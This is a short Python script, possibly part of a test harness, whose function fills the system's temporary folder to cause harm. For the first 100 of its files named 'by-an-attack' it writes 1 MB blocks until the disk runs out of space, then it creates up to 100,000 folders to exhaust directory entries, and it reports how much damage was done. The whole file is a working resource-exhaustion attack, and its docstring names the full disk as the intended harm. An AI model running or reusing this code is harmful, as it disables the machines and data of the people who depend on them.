"""Fill the folder for temporary files with one file, with large ones and with empty ones.

Harm: the disk is full, or has no room for names; the answer says how much got there.
"""

import os
import tempfile


def paired(*given):
    folder, written, files = tempfile.gettempdir(), 0, 0
    try:
        for number in range(20000):
            with open(f"{folder}/by-an-attack-{number}", "wb") as file:
                while number < 100 and file.write(bytes(1 << 20)):
                    written += 1
    except OSError:
        pass
    try:
        for number in range(100_000):
            os.mkdir(f"{folder}/by-an-attack-{number}-folder")
            files += 1
    except OSError:
        pass
    return [f"{written} MB"] * (written > 100) + [f"{files} files"] * (files > 5000)
